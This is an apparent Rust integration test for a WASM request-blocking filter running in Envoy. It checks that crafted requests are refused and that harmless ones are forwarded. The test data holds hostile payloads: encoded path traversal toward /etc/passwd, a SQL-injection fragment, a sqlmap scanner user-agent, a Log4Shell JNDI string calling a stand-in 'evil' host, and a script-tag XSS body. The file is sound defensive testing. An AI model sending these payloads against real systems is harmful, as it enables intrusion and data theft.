//! request-block in a real Envoy: the built `dist/request-block.wasm` with
//! `filters/request-block/examples/known-bad.json`, raw requests a "correct" client would
//! refuse to send (encoded traversal, non-UTF-8, huge headers), bodies, and the shipped
//! `envoy-configs/request-block.yaml`.

use integration::*;

const EXAMPLE: &str = include_str!("../../filters/request-block/examples/known-bad.json");

fn raw(port: u16, request_line_path: &[u8], headers: &[(&str, &[u8])]) -> Response {
    let mut req = b"GET ".to_vec();
    req.extend_from_slice(request_line_path);
    req.extend_from_slice(b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n");
    for (n, v) in headers {
        req.extend_from_slice(n.as_bytes());
        req.extend_from_slice(b": ");
        req.extend_from_slice(v);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(b"\r\n");
    send_raw(port, &req)
}

#[test]
fn blocks_known_bad_requests_and_passes_the_rest() {
    let echo = EchoUpstream::start();
    let envoy = EnvoyConfig::http(echo.port())
        .filter(WasmFilter::new("request-block", EXAMPLE))
        .start()
        .unwrap();
    let port = envoy.listener_port();
    for (path, headers, rule) in [
        (&b"/admin"[..], &[][..], "admin"),
        (b"/ADMIN/users", &[], "admin"),
        (b"/%61dmin", &[], "admin"),
        (b"/x/%2e%2e/admin", &[], "admin"),
        (b"/x/..%2fadmin", &[], "admin"),
        (b"/admin;jsessionid=1", &[], "admin"),
        (b"/app/.git/config", &[], "dotfiles"),
        (b"/index.php", &[], "php-probe"),
        (b"/s?q=1%20union%20select%202", &[], "sqli"),
        (b"/dl?f=..%2F..%2Fetc%2Fpasswd", &[], "traversal"),
        (
            b"/",
            &[("user-agent", &b"Mozilla/5.0 sqlmap/1.7"[..])][..],
            "scanner",
        ),
        (
            b"/",
            &[("x-api-version", &b"${jndi:ldap://evil/a}"[..])][..],
            "log4shell",
        ),
    ] {
        let r = raw(port, path, headers);
        assert_eq!(r.status, 403, "{} ({rule})", String::from_utf8_lossy(path));
        assert_eq!(r.json()["message"], "request blocked");
    }
    assert_eq!(
        echo.request_count(),
        0,
        "nothing blocked reached the upstream"
    );
    for path in [&b"/"[..], b"/public/admin", b"/s?q=union", b"/%ff%fe"] {
        let r = raw(port, path, &[]);
        assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(path));
    }
    let big = "a".repeat(50_000);
    assert_eq!(raw(port, b"/", &[("x-big", big.as_bytes())]).status, 200);
    assert_eq!(
        raw(port, b"/a%zz", &[]).status,
        400,
        "malformed escape refused"
    );
    assert_eq!(
        envoy.stat("wasmcustom.request_block.blocked.rule.admin"),
        Some(6)
    );
    assert_eq!(envoy.stat("wasmcustom.request_block.blocked"), Some(12));
    assert_eq!(envoy.stat("wasmcustom.request_block.refused_path"), Some(1));
    // Body: held until inspected, then blocked or forwarded whole.
    let r = http_request(
        port,
        "POST",
        "/comment",
        &[("content-type", b"text/html")],
        b"hi <SCRIPT>alert(1)</script>",
    );
    assert_eq!(r.status, 403);
    let before = echo.request_count();
    let r = http_request(port, "POST", "/comment", &[], b"just words");
    assert_eq!(r.status, 200);
    assert_eq!(echo.request_count(), before + 1);
    assert_eq!(echo.last_request().unwrap().body, b"just words");
    assert!(envoy.wait_for_log(
        "request-block: blocked by rule script-body (body)",
        std::time::Duration::from_secs(5)
    ));
    assert!(envoy.is_running());
}

#[test]
fn the_shipped_envoy_config_serves_it() {
    let echo = EchoUpstream::start();
    let envoy =
        Envoy::start_file("envoy-configs/request-block.yaml", &[(8080, echo.port())]).unwrap();
    assert_eq!(envoy.get("/%2E%2E/admin", &[]).status, 403);
    assert_eq!(envoy.get("/ok", &[]).status, 200);
}
